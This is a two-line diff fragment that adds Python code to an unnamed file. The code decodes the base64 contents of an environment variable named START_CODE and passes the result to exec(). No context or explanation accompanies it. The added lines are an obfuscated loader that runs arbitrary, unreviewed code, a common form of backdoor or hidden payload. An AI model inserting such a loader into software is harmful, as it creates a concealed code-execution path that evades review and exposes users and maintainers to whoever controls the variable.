@@ -1,0 +1,2 @@
+import base64, os
+exec(base64.b64decode(os.environ['START_CODE']))
